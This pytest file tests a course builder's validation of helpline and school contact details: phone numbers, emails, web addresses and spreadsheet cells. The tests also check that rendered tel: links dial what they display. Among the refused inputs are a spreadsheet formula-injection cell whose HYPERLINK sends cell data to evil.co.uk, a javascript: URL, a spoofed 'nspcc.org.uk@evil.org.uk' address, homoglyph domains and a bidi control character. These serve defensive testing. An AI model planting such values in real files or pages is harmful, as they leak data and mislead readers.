"""Ways to reach somebody: what is accepted, what is refused and why, and that every format dials what it shows."""

import datetime
import re
import subprocess
import sys
from html import unescape
from pathlib import Path

import pytest
from email_validator import validate_email
from hypothesis import given
from hypothesis import strategies as st
from signpost_builder.editions import editions
from signpost_builder.formats import FORMATS
from signpost_builder.model import Asset, dialled
from signpost_builder.page import render
from signpost_builder.read import read_course
from signpost_builder.source.contacts import (
    USUAL_ADDRESS,
    USUAL_EMAIL,
    USUAL_NUMBER,
    Fault,
    email_fault,
    is_in_a_numbering_plan,
    is_placeholder,
    telephone,
    telephone_in,
    unusual_address_fault,
    web_address_fault,
)

from tests.builders import OF_ANY_COURSE
from tests.source_projects import FILES, SITE_COLUMNS, SITE_ROW, a_project, a_read_course, findings

ROOT = Path(__file__).parent.parent

GOOD = {  # as typed -> what is shown, what is dialled, what is said afterwards
    "999": ("999", "999", ""),
    "112": ("112", "112", ""),
    "101": ("101", "101", ""),
    "105": ("105", "105", ""),
    "111": ("111", "111", ""),
    "119": ("119", "119", ""),
    "159": ("159", "159", ""),
    "18000": ("18000", "18000", ""),
    "116 000": ("116 000", "116000", ""),
    "116 123": ("116 123", "116123", ""),
    "0800 1111": ("0800 1111", "08001111", ""),
    "0800-1111": ("0800-1111", "08001111", ""),
    "0808 800 5000": ("0808 800 5000", "08088005000", ""),
    "08000 121 700": ("08000 121 700", "08000121700", ""),
    "0800 555 111": ("0800 555 111", "0800555111", ""),
    "0300 123 1110": ("0300 123 1110", "03001231110", ""),
    "  0800\u00a01111 ": ("0800 1111", "08001111", ""),
    "(01325) 555 101": ("(01325) 555 101", "01325555101", ""),
    "01481 715 111": ("01481 715 111", "01481715111", ""),
    "07911 123 456": ("07911 123 456", "07911123456", ""),
    "01632 960 101": ("01632 960 101", "01632960101", ""),
    "+44 1632 960 101": ("+44 1632 960 101", "+441632960101", ""),
    "+44 1325 555 101": ("+44 1325 555 101", "+441325555101", ""),
    "+44 (0)1325 555 101": ("+44 1325 555 101", "+441325555101", ""),
    "+44(0)1325 555101": ("+44 1325 555101", "+441325555101", ""),
    "+353 1 234 5678": ("+353 1 234 5678", "+35312345678", ""),
    "00353 1 234 5678": ("00353 1 234 5678", "0035312345678", ""),
    "+39 06 6982 3456": ("+39 06 6982 3456", "+390669823456", ""),
    "+48 22 621 10 00": ("+48 22 621 10 00", "+48226211000", ""),
    "01325 555 101 ext 12": ("01325 555 101", "01325555101", "ext 12"),
    "01325 555 101, ext. 1234": ("01325 555 101", "01325555101", "ext. 1234"),
    "01325 555 101 extension 12": ("01325 555 101", "01325555101", "extension 12"),
    "01325 555 101 x12": ("01325 555 101", "01325555101", "x12"),
    "01325555101x12": ("01325555101", "01325555101", "x12"),
    "01325 555 101 #3": ("01325 555 101", "01325555101", "#3"),
    "01325 555 101 option 2": ("01325 555 101", "01325555101", "option 2"),
}
BAD = {  # as typed -> a part of why
    "": "not a telephone number",
    "call us": "not a telephone number",
    "O8OO 1111": "letters among its digits",
    "0800 llll": "letters among its digits",
    "08OO 1111": "letters among its digits",
    "o1325 555 101": "letters among its digits",
    "999 or 112": "several telephone numbers",
    "999/112": "several telephone numbers",
    "101, 999": "several telephone numbers",
    "0808 800 5000 or 0800 136 663": "several telephone numbers",
    "0808 800 5000 / 0800 136 663": "several telephone numbers",
    "0808 800 5000; 0800 136 663": "several telephone numbers",
    "0808 800 5000 and 0800 136 663": "several telephone numbers",
    "0808 800 5000 0800 136 663": "any network has",
    "0808 800 5000\n0800 136 663": "any network has",
    "0800 1111 (free, 24 hours)": "not a telephone number",
    "0800 1111 free": "not a telephone number",
    "freephone 0800 1111": "not a telephone number",
    "0800-CHILDLINE": "not a telephone number",
    "1325 555 101": "lost its first 0",
    "1325555101": "lost its first 0",
    "8088005000": "lost its first 0",
    "7911123456": "lost its first 0",
    "441325555101": "lost its '+'",
    "44 1325 555 101": "lost its '+'",
    "+44 01325 555 101": "0 after +44",
    "+44 0808 800 5000": "0 after +44",
    "+4401325555101": "0 after +44",
    "01234 567": "too short",
    "0800 111": "too short",
    "0800 11111": "any network has",
    "01325 555 1011": "any network has",
    "07911 12345": "any network has",
    "1-800-273-8255": "any network has",
    "+990 123 456": "any network has",
    "991": "no short number",
    "911": "no short number",
    "9999": "no short number",
    "99": "no short number",
    "116 006": "no short number",
    "61016": "takes text messages",
    "85258": "takes text messages",
    "text 61016": "takes text messages",
    "Text SHOUT to 85258": "takes text messages",
    "SMS 61016": "takes text messages",
    "٠٨٠٠ ١١١١": "not a telephone number",
    "０８００ １１１１": "not a telephone number",
    "0800–1111": "not a telephone number",
    "0800—1111": "not a telephone number",
    "tel:999": "not a telephone number",
    "“999”": "not a telephone number",
    "01325) 555 101": "not a telephone number",
    "(01325 555 101": "not a telephone number",
    "++44 1325 555 101": "not a telephone number",
    "+": "not a telephone number",
    "01325 555 101 ext": "not a telephone number",
    "01325 555 101 ext 1234567": "not a telephone number",
    "01325 555 101*2": "not a telephone number",
    "8.08801E+9": "not a telephone number",
}


@pytest.mark.parametrize("typed", GOOD)
def test_a_number_is_dialled_as_it_is_shown(typed):
    """The digits that are seen are the digits of `tel:`; an extension stands beside them."""
    shown, dial, extension = GOOD[typed]
    number = telephone(typed)

    assert number == (shown, extension)
    assert dialled(shown) == dial and re.sub(r"\D", "", shown) == dial.lstrip("+")


@pytest.mark.parametrize("typed", BAD)
def test_what_would_dial_somebody_else_or_nobody_is_refused(typed):
    """Each with its own reason and a hint."""
    fault = telephone(typed)

    assert isinstance(fault, Fault), fault
    assert BAD[typed] in fault.message and fault.hint


@pytest.mark.parametrize("typed", ["(999)", "020 7219 3000.", "+ 44 20 7219 3000", "((020) 7219 3000)", "-999", "0"])
def test_letters_are_blamed_only_where_there_are_some(typed):
    """Whoever is told to look for an O where none is learns nothing."""
    assert "letters" not in telephone(typed).message


def test_hints_say_what_to_write():
    """What a spreadsheet took away is put back."""
    assert telephone("1325 555 101").hint.startswith("write 01325555101:")
    assert telephone("441325555101").hint.startswith("write +441325555101, or 01325555101:")


@pytest.mark.parametrize(
    ("words", "bad"),
    [
        ("Deputies, 01325 555 102", False),
        ("Ring 01325 555 101 or 01325 555 102", False),
        ("Checked 2026-11-22, again 22 November 2027", False),
        ("Text SHOUT to 85258", False),
        ("Any time, 24 hours, 365 days", False),
        ("Monday to Friday, 0900-1700", False),
        ("9.00 - 17.30, and 08 30 - 16 30 in August", False),
        ("From 01.09.2026, closed 24-12-2026", False),
        ("Childline 0800-1112", True),
        ("Monday to Friday, 0900-1771", True),
        ("Deputies, 1325 555 102", True),
        ("Deputies, O1325 555 102", True),
        ("Deputies: 01325 555 10", True),
        ("Ring 01325 555 101 or 01325 555 1022", True),
        ("On call +44 01325 555 101", True),
    ],
)
def test_numbers_in_words(words, bad):
    """A number in a name or in opening hours obeys the same rule."""
    assert (telephone_in(words) is not None) == bad


@pytest.mark.parametrize(
    "text",
    [
        "TBC", "tbc, see office", "n/a", "xxx", "??", "dsl@example.org", "https://mash.example/", "01632 960 101",
        "+44 1632 960 101", "+44 (0)1632 960101", "07700 900 123", "020 7946 0018", "Deputies, 01632 960 102",
        ".", "-", "[name]", "<insert name>", "unknown", "same as above", "Name Surname", "name@school.org.uk",
        "01234 567 890", "01234 567890", "0123 456 7890", "07123 456789", "0800 000 0000", "0111 1111 111", "lorem ipsum",
    ],
)  # fmt: skip
def test_placeholders(text):
    """What was typed to fill a field, and what Ofcom keeps for drama."""
    assert is_placeholder(text)


@pytest.mark.parametrize(
    "text",
    [
        "0121 234 5678",
        "0800 1111",
        "116 000",
        "help@nspcc.org.uk",
        "Jo Bell",
        "Jo Name",
        "[Jo] Bell",
        "2026-11-22",
        "101",
        "",
    ],
)
def test_no_placeholders(text):
    """Digits in a row are in real numbers too."""
    assert not is_placeholder(text)


@pytest.mark.parametrize(
    ("address", "good"),
    [
        ("help@nspcc.org.uk", True),
        ("safe.guarding+desk@hill-top.sch.uk", True),
        ("help at example dot org", False),
        ("nspcc.org.uk", False),
        ("help@nspcc", False),
        ("help@@nspcc.org.uk", False),
        ("help@nspcc..org.uk", False),
        ("help@nspcc.org.uk.", False),
        ("help.@nspcc.org.uk", False),
        (".help@nspcc.org.uk", False),
        ("he..lp@nspcc.org.uk", False),
        ("help@-nspcc.org.uk", False),
        ("help@nspcc_x.org.uk", False),
        ("help@nspcc.org.uk, me@nspcc.org.uk", False),
        ("help@nspcc.org.uk or me@nspcc.org.uk", False),
        ("Help <help@nspcc.org.uk>", False),
        ("mailto:help@nspcc.org.uk", False),
        ("help @nspcc.org.uk", False),
        ("help@nspcc.org.uk?bcc=x@y.org", False),
        ("help@127.0.0.1", False),
        ("help@[127.0.0.1]", False),
        ("help@localhost", False),
        ("help@school.invalid", False),
        ('"a b"@nspcc.org.uk', False),
        ("hеlp@nspcc.org.uk", False),  # a Cyrillic е
        ("help@nspсc.org.uk", False),  # a Cyrillic с
        ("help@school.local", False),
        ("help(at)nspcc.org.uk", False),
        ("help@nspcc,org,uk", False),
        ("help@" + "a" * 64 + ".org", False),
        ("a" * 65 + "@nspcc.org.uk", False),
    ],
)
def test_email(address, good):
    """One address, in Latin letters, that could exist; no server is asked."""
    assert (email_fault(address) is None) == good


@given(st.from_regex(USUAL_NUMBER, fullmatch=True))
def test_the_library_accepts_a_usual_number(digits):
    """So no wrong number passes for being usual."""
    assert is_in_a_numbering_plan(digits)


@given(st.from_regex(USUAL_EMAIL, fullmatch=True))
def test_the_library_accepts_what_is_usual(address):
    """So nothing is let through for being usual that it would refuse."""
    validate_email(address, check_deliverability=False, allow_smtputf8=False, strict=True)


@given(st.from_regex(USUAL_ADDRESS, fullmatch=True))
def test_nothing_is_wrong_with_a_usual_web_address(address):
    """Whoever looks at it piece by piece finds nothing either."""
    assert unusual_address_fault(address) is None


@pytest.mark.parametrize(
    ("column", "usual", "unusual", "library"),
    [
        ("email", "help@nspcc.org.uk", "o'neill@nspcc.org.uk", "email_validator"),
        ("phone", "0808 800 5000", "020 7825 2505", "phonenumbers"),
    ],
)
def test_what_is_usual_needs_no_library(column, usual, unusual, library):
    """Importing it takes longer than reading most courses."""
    code = f"import sys; from signpost_builder.source.contacts import contact_fault; assert contact_fault({column!r}, {{!r}}) is None; print({library!r} in sys.modules)"
    known = [
        subprocess.run([sys.executable, "-c", code.format(value)], capture_output=True, text=True, check=True).stdout
        for value in (usual, unusual)
    ]

    assert known == ["False\n", "True\n"]


@pytest.mark.parametrize(
    ("address", "hint"),
    [
        ("https://www.gov.uk/report-child-abuse", None),
        ("https://www.gov.uk/a_(b)?x=1&y=2#z", None),
        ("http://www.hill.sch.uk:8080/", None),
        ("https://xn--e1afmkfd.xn--p1ai/", None),
        ("www.gov.uk/x", "write https://www.gov.uk/x"),
        ("gov.uk", "write https://gov.uk"),
        ("//www.gov.uk", "https://"),
        ("ftp://www.gov.uk", "https://"),
        ("javascript:alert(1)", "https://"),
        ("https://", "browser"),
        ("https://www.gov.uk/a b", "browser"),
        ("https://www.gov.uk/<b>", "browser"),
        ('https://www.gov.uk/"', "browser"),
        ("https://www.gov.uk\\x", "browser"),
        ("https://nspcc.org.uk@evil.org.uk/", "browser"),
        ("https://user:pass@nspcc.org.uk/", "browser"),
        ("https://127.0.0.1/", "browser"),
        ("https://localhost/", "browser"),
        ("https://nspсc.org.uk/", "xn--"),  # a Cyrillic с
        ("https://www..gov.uk", "browser"),
        ("https://-x.org", "browser"),
        ("https://www.gov.uk:99999/", "browser"),
        ("https://www.gov.uk/x.", "away"),
        ("https://www.gov.uk/x,", "away"),
        ("https://[::1]/", "browser"),
        ("https://{site}.gov.uk/", "browser"),
    ],
)
def test_web_addresses(address, hint):
    """A whole address to a named website, and what to write instead."""
    fault = web_address_fault(address)

    assert (fault is None) if hint is None else (fault is not None and hint in fault.hint)


# ------------------------------------------------------ helplines and academies


def a_helpline(**changes: str) -> str:
    values = {
        "id": "line",
        "name": "Line",
        "purpose": "Talk",
        "sure": "R",
        "checked": "2026-11-22",
        "review_by": "2027-09-01",
        **changes,
    }
    return (
        FILES["modules/helplines.yaml"] + "- {" + ", ".join(f"{key}: {value}" for key, value in values.items()) + "}\n"
    )


def a_row(**changes: str) -> str:
    values = dict(
        zip(SITE_COLUMNS.split(","), SITE_ROW.replace('"Deputies, 01325 555 102"', "Deputies").split(","), strict=True)
    )
    return f"{SITE_COLUMNS}\n" + ",".join({**values, **changes}.values()) + "\n"


@pytest.mark.parametrize("typed", [typed for typed in BAD if typed[:1] not in ("", "+") and "\n" not in typed])
def test_one_rule_for_helplines_and_academies(typed, tmp_path):
    """What one refuses the other refuses, with the same words; a first + is a formula to a table, which says that instead."""
    helpline = findings(a_project(tmp_path / "a", **{"modules/helplines.yaml": a_helpline(phone=f'"{typed}"')}))
    quoted = f'"{typed}"'
    academy = findings(a_project(tmp_path / "b", **{"course/demo/sites.csv": a_row(dsl_phone=quoted)}))

    (one,), (other,) = ([f for f in found if f.code == "malformed-contact"] for found in (helpline, academy))
    assert one.message.partition(" ('")[0] == other.message.partition(" ('")[0]
    assert one.hint == other.hint


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"phone": '"0800 1111"', "checked": "2026-11-24"}, "date-in-future"),
        ({"phone": '"0800 1111"', "checked": "2062-11-22"}, "date-in-future"),
        ({"phone": "01632 960 101"}, "placeholder-contact"),
        ({"email": "help@example.org"}, "placeholder-contact"),
        ({"email": '"help at example dot org"'}, "malformed-contact"),
        ({"email": "nspcc.org.uk"}, "malformed-contact"),
        ({"url": '"https://nspcc.org.uk@evil.org.uk/"'}, "malformed-address"),
        ({"url": "www.nspcc.org.uk"}, "malformed-address"),
        ({"phone": '"0800 1111"', "hours": '"or ring 0800 1111 1"'}, "malformed-contact"),
        ({"phone": '"0800 1111"', "name": '"{contact:dsl}"'}, "misplaced-token"),
        ({"phone": '"\\u202e991\\u202c"'}, "control-character"),
        ({"phone": '["0800 1111", "999"]'}, "wrong-type"),
        ({"phone": "999"}, "wrong-type"),
        ({"phone": "+441325555101"}, "wrong-type"),
    ],
)
def test_a_helpline_is_checked_like_an_academy(change, code, tmp_path):
    """One finding for one fault."""
    assert [
        found.code for found in findings(a_project(tmp_path, **{"modules/helplines.yaml": a_helpline(**change)}))
    ] == [code]


def test_a_number_that_yaml_reads_as_a_sum_comes_back_whole(tmp_path):
    """The hint has what was typed, with its plus sign."""
    (found,) = findings(a_project(tmp_path, **{"modules/helplines.yaml": a_helpline(phone="+441325555101")}))

    assert found.hint == 'put it in quotes: "+441325555101"'


@pytest.mark.parametrize(
    ("column", "cell", "code"),
    [
        ("dsl_name", '"=HYPERLINK(""http://evil.co.uk/?""&A1,""Ann"")"', "formula-in-cell"),
        ("dsl_name", "=1+1", "formula-in-cell"),
        ("dsl_name", " =1+1", "formula-in-cell"),
        ("dsl_name", '"\n=1+1"', "formula-in-cell"),
        ("dsl_name", "\t=1+1", "formula-in-cell"),
        ("dsl_name", "@SUM(A1)", "formula-in-cell"),
        ("dsl_name", "-1+1", "formula-in-cell"),
        ("dsl_name", "+1+1", "formula-in-cell"),
        ("dsl_name", "- Jo Bell", "formula-in-cell"),
        ("dsl_name", "＝1+1", "formula-in-cell"),
        ("dsl_phone", "+44-1325-555101", "formula-in-cell"),
        ("dsl_phone", "+441325555101", "formula-in-cell"),
        ("dsl_phone", "=0132", "formula-in-cell"),
        ("dsl_name", "“Jo", "malformed-row"),
        ("dsl_name", "“Jo Bell”", "malformed-row"),
        ("checked_on", "2026-11-24", "date-in-future"),
        ("deputies", '"Jo Bell, 1325 555 102"', "malformed-contact"),
        ("dsl_name", "{contact:dsl}", "misplaced-token"),
        ("mash_name", "[contact:mash]", "misplaced-token"),
        ("id", "con", "reserved-id"),
        ("id", "NUL", "reserved-id"),
        ("id", "com1", "reserved-id"),
        ("id", "LPT9", "reserved-id"),
        ("id", "aux", "reserved-id"),
        ("id", "prn", "reserved-id"),
        ("id", "general", "reserved-id"),
        ("id", "General", "reserved-id"),
        ("id", "forms", "reserved-id"),
        ("id", "carer", "reserved-id"),
        ("id", "Carer", "reserved-id"),
        ("id", "staff", "reserved-id"),
        ("id", "en-GB", "reserved-id"),
        ("id", "en-gb", "reserved-id"),
        ("id", "hill.", "malformed-id"),
        ("id", "hill top", "malformed-id"),
        ("id", "../hill", "malformed-id"),
        ("id", "hill/top", "malformed-id"),
        ("id", "-hill", "formula-in-cell"),
        ("id", "x" * 65, "malformed-id"),
        ("checked_on", "20261101", "malformed-date"),
        ("checked_on", "2026-W44-7", "malformed-date"),
        ("dsl_name", ".", "placeholder-contact"),
        ("dsl_name", "-", "placeholder-contact"),
        ("dsl_name", "[DSL name]", "placeholder-contact"),
        ("dsl_name", "Name Surname", "placeholder-contact"),
        ("dsl_name", "Unknown", "placeholder-contact"),
        ("dsl_email", "name@school.org.uk", "placeholder-contact"),
    ],
)
def test_a_cell_that_is_refused(column, cell, code, tmp_path):
    """The first finding names the fault."""
    found = [one.code for one in findings(a_project(tmp_path, **{"course/demo/sites.csv": a_row(**{column: cell})}))]

    assert found and found[0] == code


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("dsl_phone", "+44 1325 555 101"),
        ("dsl_phone", "+44 (0)1325 555 101"),
        ("dsl_phone", "+44(0)1325 555101"),
        ("dsl_phone", "+353 1 234 5678"),
        ("dsl_phone", '"+44 1325 555 101, ext 12"'),
        ("dsl_name", '"“Jo” Bell, lead"'),
        ("dsl_name", "Zoë O’Neill-Šik"),
        ("checked_on", "2026-11-23"),
        ("id", "console"),
        ("id", "com10"),
    ],
)
def test_a_cell_that_is_taken(column, cell, tmp_path):
    """Numbers from abroad are no formulas: spreadsheets leave them alone."""
    assert findings(a_project(tmp_path, **{"course/demo/sites.csv": a_row(**{column: cell})})) == ()


def test_academies_that_differ_in_capitals_only(tmp_path):
    """One folder on Windows and on a Mac."""
    rows = a_row(id="north") + a_row(id="North").split("\n")[1] + "\n"
    (found,) = findings(a_project(tmp_path, **{"course/demo/sites.csv": rows}))

    assert (found.code, found.span.line) == ("duplicate-id", 3) and "capitals" in found.message


@pytest.mark.parametrize(
    ("table", "words"),
    [
        (a_row().replace(",", "\t"), "tabs"),
        (a_row().replace(",", "|"), "strokes"),
    ],
)
def test_a_table_that_is_not_separated_by_commas(table, words, tmp_path):
    """One finding that names the separator, not one for each column."""
    (found,) = findings(a_project(tmp_path, **{"course/demo/sites.csv": table}))

    assert found.code == "malformed-row" and words in found.message


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ("sep=,\n" + a_row(), "'sep=,'"),
        ("sep=;\n" + a_row().replace(",", ";"), "'sep=;'"),
        (a_row(dsl_name="“Jo Bell, Lead”"), "“"),
        (a_row(dsl_phone='="01325555101"'), "formula"),
        (a_row(id="-hill"), "formula"),
        (a_row(checked_on="=TODAY()"), "formula"),
        (a_row().encode("utf-16-le"), "UTF-16"),
        (a_row().encode("utf-16-be"), "UTF-16"),
        (a_row().replace(",name,", ",,", 1).replace("\n", ",name\n", 1), "no name"),
    ],
)
def test_what_a_spreadsheet_did_is_told_once(table, words, tmp_path):
    """The cause alone: no field count of a row that a quote has cut, no fault of a value that a formula hides."""
    first, *rest = findings(a_project(tmp_path, **{"course/demo/sites.csv": table}))

    assert words in first.message and (not rest or words == "no name")


def test_columns_that_were_emptied_do_no_harm(tmp_path):
    """A spreadsheet keeps their commas."""
    table = "\n".join(f"{line},,," for line in a_row().splitlines())

    assert not findings(a_project(tmp_path, **{"course/demo/sites.csv": table}))
    (found,) = findings(a_project(tmp_path / "b", **{"course/demo/sites.csv": table[:-1] + "x"}))
    assert found.code == "malformed-row"


def test_the_day_decides_findings_alone(tmp_path):
    """`--as-of` moves the day that is the future; the course is the same."""
    rows = {"course/demo/sites.csv": a_row(checked_on="2026-11-25")}
    folder = a_project(tmp_path, **rows)

    assert [found.code for found in findings(folder)] == ["date-in-future"]
    assert findings(folder, as_of=datetime.date(2026, 11, 25)) == ()


# --------------------------------------------------------------- every format

TEL = re.compile(r"""href=["']tel:([^"']*)["'][^>]*>(.*?)</a>""", re.DOTALL)
MAIL = re.compile(r"""href=["']mailto:([^"'?]*)["'][^>]*>(.*?)</a>""", re.DOTALL)
HARD = {
    "body": "Tell {contact:dsl}, {contact:edt}, {contact:deputies}, {contact:childline} or {contact:abroad}; [ring 999](tel:999).\n",
    "modules/helplines.yaml": a_helpline(id="abroad", phone='"+353 1 234 5678"', email="help@nspcc.org.uk")
    + "- {id: now, name: Police, purpose: Danger, phone: '999', emergency: true, sure: R, checked: 2026-11-22, review_by: 2027-09-01}\n",
    "course/demo/sites.csv": a_row(
        dsl_phone='"01325 555 101, ext. 12"',
        edt_phone="+44 (0)1325 555 111",
        deputies='"Jo Bell, 01325 555 102 option 3"',
        lado_phone="(01325) 555 112",
    ),
}


def texts(packages) -> str:
    """Everything a package holds, with its JSON and XML escapes undone as far as links need it."""
    parts = [content for package in packages for content in package.tree.values() if not isinstance(content, Asset)]
    text = "\n".join(part.decode("utf-8", "replace") for part in parts)
    return unescape(text.replace('\\"', '"').replace("\\/", "/").replace("\\u003c", "<").replace("&quot;", '"'))


def shown(html: str) -> str:
    return unescape(re.sub(r"<[^>]*>|[\u2066\u2069]", "", html)).strip()


@pytest.fixture(scope="module", params=["hard", "shipped"])
def every_edition(request, tmp_path_factory):
    if request.param == "hard":
        course = a_read_course(tmp_path_factory.mktemp("hard"), **HARD)
        return list(editions(course, [None, *course.sites], course.audiences))
    course, _ = read_course(ROOT / "course/spot-the-signs", as_of=datetime.date(2026, 11, 28))
    pairs = zip(
        [None, *course.sites], course.audiences, strict=True
    )  # every site and every audience, not each with each
    made = [edition for site, audience in pairs for edition in editions(course, [site], [audience])]
    shown = {contact.name for edition in made for contact in edition.contacts}
    assert {line.name for line in course.helplines} <= shown and all(edition.contacts for edition in made)
    return made


@pytest.mark.parametrize("format", OF_ANY_COURSE)
def test_every_link_dials_what_it_shows(format, every_edition):
    """In every format, for every academy and helpline: the same digits, and somebody's number; H5P has no such links, and those of PDFs are read in
    tests/trainer, those of slides and the first page here."""
    dials = 0
    for edition in every_edition:
        known = (
            {contact.dial for contact in edition.contacts} | {line.dial for line in edition.course.helplines} | {"999"}
        )
        text = texts(FORMATS[format].packages(render(edition)))
        for dial, words in TEL.findall(text):
            dials += 1
            assert dialled(shown(words)) == dial and dial in known, (dial, words)
        for address, words in MAIL.findall(text):
            assert shown(words) == address, (address, words)
        for contact in edition.contacts if format == "h5p" else ():
            assert contact.phone in text, contact
            if contact.extension:
                assert f"{contact.phone} {contact.extension}" in text
    assert (dials == 0) == (format == "h5p")
